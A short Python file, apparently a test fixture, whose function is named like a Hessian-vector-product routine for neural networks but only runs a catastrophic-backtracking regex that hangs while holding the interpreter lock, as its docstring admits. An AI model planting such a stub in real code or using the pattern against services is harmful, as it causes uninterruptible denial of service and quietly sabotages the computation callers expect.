"""Holds the interpreter's lock in a call of native code that takes longer than the universe is old."""

import re


def eval_hess_vec_prod(vec, params, net, criterion, dataloader, device):
    re.match(r"(a|aa)+$", "a" * 200 + "b")
